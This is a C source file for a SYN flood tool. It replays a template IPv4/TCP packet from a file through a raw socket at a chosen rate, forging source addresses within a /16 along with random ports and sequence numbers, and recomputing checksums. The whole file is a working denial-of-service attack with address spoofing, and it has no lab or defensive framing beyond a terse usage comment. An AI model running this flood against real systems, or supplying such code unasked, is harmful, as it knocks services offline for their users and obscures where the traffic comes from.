/* A flood of SYNs at a steady rate, no two alike.
 *
 *   syn_flood FILE AT RATE       sends the IPv4 packet of FILE, with other addresses and ports
 *                                below its own /16, other numbers, and other bytes from AT on
 *                                to its end, RATE times a second, until SIGTERM; then says how
 *                                many in how many seconds
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, MAX = 128, IP = 20, SOURCE = 14, DESTINATION = 16, PORT = 20, SEQ = 24, SUM = 36 };

static volatile sig_atomic_t over;

static void stop(int number) { (void)number; over = 1; }

static double now(void)
{
    struct timespec at;
    clock_gettime(CLOCK_MONOTONIC, &at);
    return at.tv_sec + at.tv_nsec / 1e9;
}

static uint64_t number(void)
{
    static uint64_t state = 88172645463325252ull;
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static uint32_t add(uint32_t sum, const unsigned char *at, size_t size)
{
    for (size_t i = 0; i < size; i += 2)
        sum += at[i] << 8 | at[i + 1];
    return sum;
}

static void change(unsigned char *packet, size_t size, size_t from)
{
    uint64_t some = number();
    memcpy(packet + SOURCE, &some, 2);
    memcpy(packet + PORT, (unsigned char *)&some + 2, 2);
    packet[PORT] |= 4; /* from 1024 on */
    memcpy(packet + SEQ, (unsigned char *)&some + 4, 4);
    for (size_t at = from; at < size; at++)
        packet[at] = number() >> 24;
    memset(packet + SUM, 0, 2);
    uint32_t sum = add(add(6 + size - IP, packet + 12, 8), packet + IP, size - IP);
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    packet[SUM] = ~sum >> 8;
    packet[SUM + 1] = ~sum;
}

int main(int count, char **words)
{
    static struct mmsghdr messages[BATCH];
    static struct iovec parts[BATCH];
    static unsigned char packets[BATCH][MAX];
    struct sockaddr_in to = {.sin_family = AF_INET};
    FILE *file = count == 4 ? fopen(words[1], "rb") : NULL;
    size_t size = file ? fread(packets[0], 1, MAX, file) : 0;
    size_t from = count == 4 ? strtoul(words[2], NULL, 10) : 0;
    double rate = count == 4 ? strtod(words[3], NULL) : 0, began;
    if (size < 40 || size % 4 || from < 40 || rate <= 0) {
        fputs("syn_flood FILE AT RATE\n", stderr);
        return 2;
    }
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (raw < 0) {
        perror("socket");
        return 1;
    }
    memcpy(&to.sin_addr, packets[0] + DESTINATION, 4);
    for (int i = 0; i < BATCH; i++) {
        memcpy(packets[i], packets[0], size);
        parts[i].iov_base = packets[i];
        parts[i].iov_len = size;
        messages[i].msg_hdr.msg_name = &to;
        messages[i].msg_hdr.msg_namelen = sizeof to;
        messages[i].msg_hdr.msg_iov = &parts[i];
        messages[i].msg_hdr.msg_iovlen = 1;
    }
    signal(SIGTERM, stop);
    unsigned long sent = 0;
    for (began = now(); !over;) {
        double due = (now() - began) * rate - sent;
        if (due < 1) {
            usleep(500);
            continue;
        }
        int some = due < BATCH ? (int)due : BATCH;
        for (int i = 0; i < some; i++)
            change(packets[i], size, from);
        int done = sendmmsg(raw, messages, some, 0);
        sent += done > 0 ? done : 1;
    }
    printf("%lu %.3f\n", sent, now() - began);
    return 0;
}
